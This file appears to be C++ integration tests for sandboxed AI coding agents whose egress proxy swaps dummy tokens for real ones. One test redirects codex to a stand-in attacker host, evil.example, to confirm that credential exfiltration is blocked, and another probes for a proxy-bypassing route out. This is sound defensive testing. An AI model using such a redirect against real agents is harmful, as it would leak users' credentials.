// Credential forwarding end to end, with real parts: a Docker bottle running the real
// codex CLI (npm @openai/codex, in bottle-test-codex), egress (real bottle-egress in its
// sidecar), a stand-in parent proxy in pipelock's place and a fake HTTPS upstream
// posing as chatgpt.com (fake_net.py). The parent proxy listens on the host side of
// Docker's default bridge, the only address the egress container can reach it on.
// Token values never appear in assertions' output: checks compare booleans.
// Throughout, a proc_scan::Scanner watches every process's argv (and the environment
// of every host process the test starts) for the real tokens.
#include <catch2/catch.hpp>

#include <boost/json.hpp>
#include <ctime>

#include "docker_bridge.hpp"
#include "forwarding_harness.hpp"
#include "podman_harness.hpp"

using namespace forwarding_harness;

TEST_CASE("proc scan: a secret in a child's argv or environment is found and reported by label only",
          "[proc_scan][integration]") {
  const std::string in_argv = "argv-secret-" + std::to_string(std::time(nullptr)) + "-x9";
  const std::string in_env = "env-secret-" + std::to_string(std::time(nullptr)) + "-y7";
  proc_scan::Scanner scanner({{"argv secret", in_argv}, {"env secret", in_env}, {"absent", "never-anywhere-q1"}});
  bottle::SystemRunner runner;
  // sh keeps the secret in its argv ($0) while it sleeps; sleep gets it only in its
  // environment (env's own argv holds it for an instant, which may be seen too).
  // Two commands: with one, dash would exec sleep in its own place and $0 would go.
  runner.run({.argv = {"sh", "-c", "sleep 0.5; true", in_argv}});
  runner.run({.argv = {"env", "SCAN_ME=" + in_env, "sleep", "0.5"}});
  scanner.stop();
  const auto hits = scanner.hits();
  bool argv_hit = false, env_hit = false;
  for (const auto& h : hits) {
    argv_hit = argv_hit || (h.label == "argv secret" && h.where == "cmdline" && h.comm == "sh");
    env_hit = env_hit || (h.label == "env secret" && h.where == "environ" && h.comm == "sleep");
    CHECK(h.label != "absent");
  }
  CHECK(argv_hit);
  CHECK(env_hit);
  const std::string report = scanner.report();
  CHECK_THAT(report, Catch::Contains("argv secret in its cmdline") && Catch::Contains("(sh)"));
  CHECK(report.find(in_argv) == std::string::npos);
  CHECK(report.find(in_env) == std::string::npos);
  CHECK(scanner.sweeps() > 10);
  CHECK(scanner.descendant_names().count("sleep") == 1);
}

TEST_CASE("forwarding: real codex in a Docker bottle is logged in with dummies and egress injects the real token",
          "[forwarding][integration]") {
  IntegrationHome home;
  const fs::path& d = home.path();
  make_certs(d);
  const HostLogin login = write_host_codex_login(d / "codex-home");
  proc_scan::Scanner scanner(real_tokens(login));

  const std::string gateway = docker_bridge_gateway();
  REQUIRE_FALSE(gateway.empty());
  const auto net = start_fake_net(d, gateway);
  const std::string parent = gateway + ":" + std::to_string(parent_port(d));

  home.env()["CODEX_HOME"] = (d / "codex-home").string();
  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://" + parent;
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (d / "ca.pem").string();
  const std::string name = unique_bottle_name("it-fwd");
  BottleCleanup cleanup{home, name};
  auto r =
      home.cli({"create", "--name", name, "--agent", "codex", "--image", codex_image, "--forward-host-credentials"});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK_THAT(home.cli({"ls", "--json"}).out, Catch::Contains("\"egress\":\"on\""));

  // The bottle holds a dummy that carries the real token's exp, never the token.
  r = home.cli({"exec", name, "--", "cat", ".codex/auth.json"});
  REQUIRE(r.ok());
  const auto bottle_auth = boost::json::parse(r.out).as_object();
  const std::string dummy(bottle_auth.at("tokens").at("access_token").as_string());
  CHECK(dummy != login.access_token);
  CHECK(r.out.find(login.access_token) == std::string::npos);
  CHECK(r.out.find(login.refresh_token) == std::string::npos);

  SECTION("codex's own requests arrive upstream with the real token") {
    r = home.cli({"exec", name, "--", "timeout", "60", "codex", "exec", "--skip-git-repo-check", "say hi"});
    check_upstream_saw_real_token(d, login, dummy);
    // The audit log has codex's requests, the credential injected, and no token.
    const std::string audit = audit_log_with(home, name, R"("action":"injected")", login, dummy);
    CHECK(contains(audit, R"("host":"chatgpt.com")"));
    CHECK(contains(audit, R"("reason":"credential swapped","route":"codex-chatgpt")"));
  }

  SECTION("the same dummy sent by codex to an unbound host is blocked and never reaches upstream") {
    home.cli({"exec", name, "--", "timeout", "40", "codex", "exec", "--skip-git-repo-check", "-c",
              "chatgpt_base_url=\"https://evil.example/backend-api/\"", "say hi"});
    // Requests without a credential may pass; none carrying it (dummy or real) does.
    for (const auto& rec : upstream_requests(d / "upstream.log")) {
      if (header(rec, "host") != "evil.example") continue;
      const std::string seen = boost::json::serialize(rec);
      CHECK(seen.find(dummy) == std::string::npos);
      CHECK(seen.find(login.access_token) == std::string::npos);
    }
    bottle::SystemRunner runner;
    const std::string egress_log = runner.run({.argv = {"docker", "logs", "bottle-" + name + "-egress"}}).err;
    CHECK(logged(egress_log, {{"event", "blocked"}, {"host", "evil.example"}, {"route", "codex-chatgpt"}}));
    CHECK(egress_log.find(login.access_token) == std::string::npos);
    CHECK(egress_log.find(dummy) == std::string::npos);
    const std::string audit = audit_log_with(home, name, R"("host":"evil.example")", login, dummy);
    CHECK(contains(audit, R"("action":"blocked","bottle":")" + name + "\""));
    CHECK(contains(audit, R"("host":"evil.example")"));
    CHECK(contains(audit, R"("reason":"dummy sent to unbound host","route":"codex-chatgpt","status":403)"));
  }

  // Two read-only looks share one bottle (each section is a create of its own): the
  // search reads files and the environment, the connection attempt writes nothing.
  SECTION(
      "no real token anywhere in the bottle's filesystem or environment, and a direct connection from the "
      "bottle to anything but egress fails") {
    const std::string search = token_search_script("/bin /etc /home /root /tmp /usr /var /run");
    r = home.cli({"exec", "--user", "root", name, "--", "sh", "-c", search}, login.access_token + "\n");
    CHECK(r.out == "0\n");
    r = home.cli({"exec", "--user", "root", name, "--", "sh", "-c", search}, login.refresh_token + "\n");
    CHECK(r.out == "0\n");
    r = home.cli({"exec", name, "--", "sh", "-c",
                  "env -u https_proxy -u HTTPS_PROXY -u http_proxy -u HTTP_PROXY timeout 5 wget -q -O- http://" +
                      parent + "/ && echo REACHED; true"});
    CHECK_THAT(r.out, !Catch::Contains("REACHED"));
  }

  check_no_token_in_any_argv(scanner);
}

TEST_CASE("forwarding: real claude in a Docker or Podman bottle answers through egress, which sends the real token",
          "[forwarding][claude][podman][integration]") {
  IntegrationHome home;
  const std::string engine = GENERATE(as<std::string>{}, "docker", "podman");
  INFO("engine: " << engine);
  constexpr const char* claude_image = "bottle-test-claude:latest";
  if (engine == "podman") use_podman(home, {claude_image, "bottle-egress:latest"});
  const fs::path& d = home.path();
  make_certs(d);
  const HostLogin login = write_host_claude_login(d / "claude-home");
  proc_scan::Scanner scanner(real_tokens(login));

  // On Podman the parent proxy listens on every host address: the bridge (and so its
  // gateway address) may exist only once the bottle's egress joins it.
  const std::string gateway = engine == "docker" ? docker_bridge_gateway() : "0.0.0.0";
  REQUIRE_FALSE(gateway.empty());
  const auto net = start_fake_net(d, gateway);
  const std::string parent =
      (engine == "docker" ? gateway : podman_gateway(home)) + ":" + std::to_string(parent_port(d));

  home.env()["CLAUDE_CONFIG_DIR"] = (d / "claude-home").string();
  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://" + parent;
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (d / "ca.pem").string();
  const std::string name = unique_bottle_name("it-cfwd");
  BottleCleanup cleanup{home, name};
  auto r = home.cli({"create", "--backend", engine, "--name", name, "--agent", "claude", "--image", claude_image,
                     "--forward-host-credentials"});
  INFO(r.err);
  REQUIRE(r.ok());

  // The bottle's login is a dummy of the real one's shape, never the real one.
  r = home.cli({"exec", name, "--", "cat", ".claude/.credentials.json"});
  REQUIRE(r.ok());
  const std::string dummy(boost::json::parse(r.out).at("claudeAiOauth").at("accessToken").as_string());
  CHECK(dummy.rfind("sk-ant-oat01-", 0) == 0);
  CHECK(dummy != login.access_token);
  CHECK(r.out.find(login.access_token) == std::string::npos);
  CHECK(r.out.find(login.refresh_token) == std::string::npos);

  // The real claude CLI, logged in with the dummy, gets the fake API's streamed answer:
  // the whole path (CA trust, proxy variables, swap, parent proxy) works for it.
  r = home.cli({"exec", name, "--", "timeout", "90", "claude", "-p", "say hi"});
  INFO(r.err);
  CHECK(r.ok());
  CHECK_THAT(r.out, Catch::Contains("hello from the fake Anthropic API"));

  check_upstream_saw_real_token(d, login, dummy, "api.anthropic.com");
  int messages_with_real = 0;
  for (const auto& rec : upstream_requests(d / "upstream.log")) {
    if (rec.at("path").as_string().find("/v1/messages") != 0) continue;
    messages_with_real += header(rec, "authorization") == "Bearer " + login.access_token ? 1 : 0;
  }
  CHECK(messages_with_real > 0);
  const std::string audit = audit_log_with(home, name, R"("action":"injected")", login, dummy);
  CHECK(contains(audit, R"("host":"api.anthropic.com")"));
  CHECK(contains(audit, R"("reason":"credential swapped","route":"claude-oauth")"));

  // Nothing in the bottle holds the real tokens (read as root on Docker; a Podman
  // pod has no root, so as its user there), and the host's login is unchanged.
  const bool as_root = engine == "docker";
  const std::string search = token_search_script(as_root ? "/bin /etc /home /root /tmp /usr /var /run"
                                                         : "/bin /etc /home /tmp /usr /var /run");
  for (const std::string& token : {login.access_token, login.refresh_token}) {
    std::vector<std::string> exec{"exec"};
    if (as_root) exec.insert(exec.end(), {"--user", "root"});
    exec.insert(exec.end(), {name, "--", "sh", "-c", search});
    r = home.cli(exec, token + "\n");
    CHECK(r.out == "0\n");
  }
  CHECK_THAT(read_file(d / "claude-home" / ".credentials.json"), Catch::Contains(login.refresh_token));

  check_no_token_in_any_argv(scanner, engine);
}

TEST_CASE("forwarding: real codex in a Podman bottle reaches upstream only through egress, with the real token",
          "[forwarding][podman][integration]") {
  IntegrationHome home;
  use_podman(home, {codex_image, "bottle-egress:latest"});
  const fs::path& d = home.path();
  make_certs(d);
  const HostLogin login = write_host_codex_login(d / "codex-home");
  proc_scan::Scanner scanner(real_tokens(login));

  // The parent proxy listens on every host address: Podman's bridge (and so its
  // gateway address) may exist only once the bottle's egress joins it.
  const auto net = start_fake_net(d, "0.0.0.0");
  const std::string parent = podman_gateway(home) + ":" + std::to_string(parent_port(d));

  home.env()["CODEX_HOME"] = (d / "codex-home").string();
  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://" + parent;
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (d / "ca.pem").string();
  const std::string name = unique_bottle_name("it-pfwd");
  BottleCleanup cleanup{home, name};
  auto r = home.cli({"create", "--backend", "podman", "--name", name, "--agent", "codex", "--image", codex_image,
                     "--forward-host-credentials"});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK_THAT(home.cli({"ls", "--json"}).out, Catch::Contains("\"egress\":\"on\""));

  const std::string dummy = bottle_codex_dummy(home, name, login);

  // The bottle's only interface besides loopback is on its own network, with no
  // route out: a direct connection to the parent proxy fails.
  r = home.cli({"exec", name, "--", "sh", "-c", "ip route; ls /sys/class/net | sort | tr '\\n' ' '"});
  CHECK_THAT(r.out, !Catch::Contains("default"));
  CHECK_THAT(r.out, Catch::EndsWith("eth0 lo "));
  check_no_direct_route(home, name, parent);

  r = home.cli({"exec", name, "--", "timeout", "60", "codex", "exec", "--skip-git-repo-check", "say hi"});
  check_upstream_saw_real_token(d, login, dummy);
  const std::string audit = audit_log_with(home, name, R"("action":"injected")", login, dummy);
  CHECK(contains(audit, R"("reason":"credential swapped","route":"codex-chatgpt")"));

  // No real token in the bottle's files or environment (read as the pod's user:
  // Podman bottles have no root).
  const std::string search = token_search_script("/bin /etc /home /tmp /usr /var /run");
  for (const std::string& token : {login.access_token, login.refresh_token}) {
    r = home.cli({"exec", name, "--", "sh", "-c", search}, token + "\n");
    CHECK(r.out == "0\n");
  }

  r = home.cli({"rm", "--force", name});
  INFO(r.err);
  CHECK(r.ok());
  const auto left =
      home.run({"sh", "-c", "podman ps -a --format '{{.Names}}'; podman network ls --format '{{.Name}}'"});
  CHECK(left.out.find("bottle-" + name + "-") == std::string::npos);
  check_no_token_in_any_argv(scanner, "podman");
}
